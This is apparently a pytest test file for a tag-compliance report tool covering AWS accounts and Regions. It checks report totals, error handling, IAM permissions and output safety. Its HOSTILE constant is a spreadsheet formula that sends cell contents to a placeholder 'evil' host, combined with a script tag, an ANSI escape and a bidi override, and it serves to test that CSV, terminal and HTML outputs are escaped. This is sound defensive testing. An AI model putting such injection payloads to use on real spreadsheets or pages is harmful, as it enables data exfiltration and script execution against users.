"""`obsgen compliance report` as people run it: totals and open resources of three accounts in two Regions."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.compliance.places_world import MEMBERS, NAME, World, resource, running, total, world
from tests.rollout.front import Fault, refusal

ALPHA, BETA = MEMBERS["alpha"], MEMBERS["beta"]
DAY = 86_400_000
HOSTILE = '=HYPERLINK("http://evil/?"&A1)<script>alert(1)</script>\x1b[31m\u202e&amp;'


@pytest.fixture
def place(tmp_path: Path) -> Iterator[World]:
    with world(tmp_path) as made:
        yield made


def now() -> int:
    return time.time_ns() // 1_000_000


def scanned(place: World) -> None:
    """Every place scanned an hour ago, all compliant."""
    for account in MEMBERS.values():
        for region in ("us-east-1", "eu-west-1"):
            place.put(account, region, total(now() - 3_600_000, 10, 0))


def data(place: World, *words: str) -> Any:
    return json.loads(place.run("report", "--format", "json", *words).stdout)


def test_nothing_wrong_is_fine(place: World) -> None:
    scanned(place)
    done = place.run("report")
    assert (done.returncode, done.stderr) == (0, "")
    assert "100.0 % of 60 resources compliant, 0 not\n" in done.stdout


def test_where_nothing_was_scanned_that_is_said(place: World) -> None:
    done = place.run("report")
    assert done.returncode == 1
    assert "nothing has been scanned yet" in done.stdout
    assert done.stdout.count("never scanned") == 6


def test_what_is_open_is_listed_with_what_is_missing(place: World) -> None:
    scanned(place)
    wrong = {"key": "Environment", "value": "live", "why": "is not one of dev, prod"}
    place.put(ALPHA, "us-east-1", total(now() - 60_000, 8, 2))
    place.put(ALPHA, "us-east-1", resource("i-1", name="web-1", missing=["Owner"], invalid=[wrong]))
    place.put(ALPHA, "us-east-1", resource("i-2", owner="team-a", missing=["Application"]))
    place.put(ALPHA, "us-east-1", resource("i-3", "compliant"))
    done = place.run("report")
    assert done.returncode == 1
    assert "    alpha us-east-1  ec2:instance, i-1 (web-1), running, owner (no owner)\n" in done.stdout
    assert "      missing Owner; Environment `live` is not one of dev, prod\n" in done.stdout
    assert "i-3" not in done.stdout
    found = data(place)
    assert (found["compliant"], found["non_compliant"], found["percent"]) == (58, 2, 96.6)
    assert found["owners"] == [{"owner": "", "open": 1}, {"owner": "team-a", "open": 1}]
    assert [one["tag"] for one in found["tags"]] == ["Application", "Environment", "Owner"]
    assert found["accounts"][0] == {
        "name": "alpha", "compliant": 18, "non_compliant": 2, "exempt": 0, "percent": 90.0, "open": 2,
    }  # fmt: skip
    assert [one["id"] for one in found["resources"]] == ["i-1", "i-2"]


def test_a_resource_that_the_index_still_has_and_that_was_fixed_is_not_listed(place: World) -> None:
    scanned(place)
    late = {**resource("i-1"), "status": {"S": "compliant"}}
    place.put(ALPHA, "us-east-1", late)
    assert data(place)["resources"] == []


def test_what_cannot_be_read_is_said_and_hides_nothing_else(place: World) -> None:
    scanned(place)
    place.client("dynamodb", BETA, "eu-west-1").delete_table(TableName=NAME)
    done = place.run("report", "--account", "alpha", "--account", "beta")
    assert done.returncode == 3
    assert f"  Not read: beta eu-west-1: table {NAME} does not exist in beta eu-west-1\n    = help: " in done.stdout
    assert "100.0 % of 30 resources compliant, 0 not" in done.stdout
    piped = place.run("report", "--format", "csv", "--account", "beta")
    assert piped.returncode == 3
    assert "skipped: beta eu-west-1: table" in piped.stderr
    assert piped.stdout.startswith('"environment"')


def test_a_role_that_may_not_be_assumed_is_said(place: World) -> None:
    scanned(place)
    # The first is the reader's; the second is of one of the places.
    place.front.faults = [Fault("AssumeRole", refusal("AccessDenied", "no", 403), skip=1, times=1)]
    done = place.run("report")
    assert done.returncode == 3
    assert done.stdout.count("AWS denied sts:AssumeRole on tag-compliance-operator-role-") == 1
    assert "100.0 % of 50 resources compliant, 0 not" in done.stdout


def test_a_scan_that_is_late_is_said(place: World) -> None:
    scanned(place)
    dynamodb = place.client("dynamodb", BETA, "eu-west-1")
    for row in dynamodb.scan(TableName=NAME)["Items"]:
        dynamodb.delete_item(TableName=NAME, Key={"pk": row["pk"], "sk": row["sk"]})
    # Older than what the report asks for.
    place.put(BETA, "eu-west-1", total(now() - 40 * DAY, 9, 1), running(now()))
    done = place.run("report", "--days", "7")
    assert done.returncode == 1
    assert "  Not scanned in time: beta eu-west-1: last scanned " in done.stdout
    assert ", 40 d ago\n" in done.stdout
    assert "  Being scanned: beta eu-west-1, since " in done.stdout
    (late,) = [one for one in data(place)["places"] if one["stale"]]
    assert (late["account_name"], late["region"]) == ("beta", "eu-west-1")


def test_more_open_resources_than_one_request_takes_are_all_read(place: World) -> None:
    place.put(ALPHA, "us-east-1", *(resource(f"i-{number:03}", missing=["Owner"]) for number in range(230)))
    found = data(place, "--account", "alpha", "--region", "us-east-1")
    assert len({one["id"] for one in found["resources"]}) == 230
    assert found["tags"] == [{"tag": "Owner", "open": 230}]


def hostile(place: World) -> None:
    scanned(place)
    wrong = {"key": "+Cost", "value": HOSTILE, "why": "does not match [0-9]+"}
    place.put(ALPHA, "us-east-1", resource("i-1", name=HOSTILE, owner=HOSTILE, missing=["@Owner"], invalid=[wrong]))


def test_a_spreadsheet_computes_nothing(place: World) -> None:
    hostile(place)
    done = place.run("report", "--format", "csv")
    head, row = csv.reader(io.StringIO(done.stdout))
    assert head[:4] == ["environment", "account", "account_id", "region"]
    said = dict(zip(head, row, strict=True))
    assert said["owner"].startswith("'=HYPERLINK")
    assert said["missing"] == "'@Owner"
    assert said["invalid"].startswith("'+Cost `=HYPERLINK")
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row)
    assert "\x1b" not in done.stdout


def test_a_terminal_is_not_moved(place: World) -> None:
    hostile(place)
    done = place.run("report")
    assert "\x1b" not in done.stdout and "\u202e" not in done.stdout
    assert "\\x1b[31m\\u202e" in done.stdout


class Tags(HTMLParser):
    """Which elements and attributes there are, and the text between them."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def test_the_page_is_one_file_that_runs_and_loads_nothing(place: World) -> None:
    hostile(place)
    place.put(ALPHA, "us-east-1", total(now() - 3 * DAY, 5, 5))
    done = place.run("report", "--format", "html", "--to", "report.html")
    assert done.returncode == 1
    assert done.stdout.startswith("wrote report.html: ")
    text = (place.folder / "report.html").read_text(encoding="utf-8")
    page = Tags()
    page.feed(text)
    assert not {"script", "link", "img", "iframe", "object", "form", "a"} & page.names
    assert not [name for name in page.attributes if name.startswith("on") or name in ("src", "href")]
    assert "<script>" not in text and "\x1b" not in text and "\u202e" not in text
    assert "<script>alert(1)</script>" in page.text
    assert "svg" in page.names
    assert "url(" not in text and "@import" not in text


def test_a_file_that_cannot_be_written_is_a_sentence(place: World) -> None:
    done = place.run("report", "--to", "nowhere/report.txt")
    assert done.returncode == 2
    assert "nowhere/report.txt: No such file or directory" in done.stderr


def test_the_commands_call_what_the_operator_role_allows(place: World) -> None:
    scanned(place)
    place.put(ALPHA, "us-east-1", resource("i-1", missing=["Owner"]))
    place.run("scan")
    place.run("report")
    services = {"GetQueueUrl": "sqs", "SendMessage": "sqs", "Query": "dynamodb", "BatchGetItem": "dynamodb"}
    hub = {"GetCallerIdentity", "AssumeRole"}
    called = {f"{services[operation]}:{operation}" for operation in set(place.front.seen) - hub}
    template = yaml.safe_load((place.folder / "out/prod/member.template.yaml").read_text().replace("!", "x"))
    policies = template["Resources"]["ComplianceOperatorRole"]["Properties"]["Policies"]
    allowed = {action for one in policies[0]["PolicyDocument"]["Statement"] for action in one["Action"]}
    # Attributes of queues are for people who look.
    assert called == allowed - {"sqs:GetQueueAttributes"}


@pytest.mark.parametrize(
    "odd",
    [
        {"pk": {"S": "SCANS"}, "sk": {"S": "1790000000000"}, "total": {"S": "{"}},
        {"pk": {"S": "SCANS"}, "sk": {"S": "1790000000000"}, "other": {"S": "x"}},
        {"pk": {"S": "SCANS"}, "sk": {"S": "RUNNING"}, "scan": {"S": "soon"}},
        {"pk": {"S": "SCANS"}, "sk": {"S": "1790000000000"}, "total": {"S": '{"at": 1e999}'}},
        {**resource("i-1"), "observed_at": {"N": "99999999999999999999"}},
    ],
    ids=["cut", "no total", "no number", "no end", "no time"],
)
def test_an_item_that_no_checker_writes_is_said_and_no_traceback(place: World, odd: dict[str, Any]) -> None:
    place.put(ALPHA, "us-east-1", odd)
    done = place.run("report")
    assert done.returncode == 3
    assert "Not read: alpha us-east-1: table tag-compliance-prod in alpha us-east-1 has an item" in done.stdout
    assert "Traceback" not in done.stdout + done.stderr
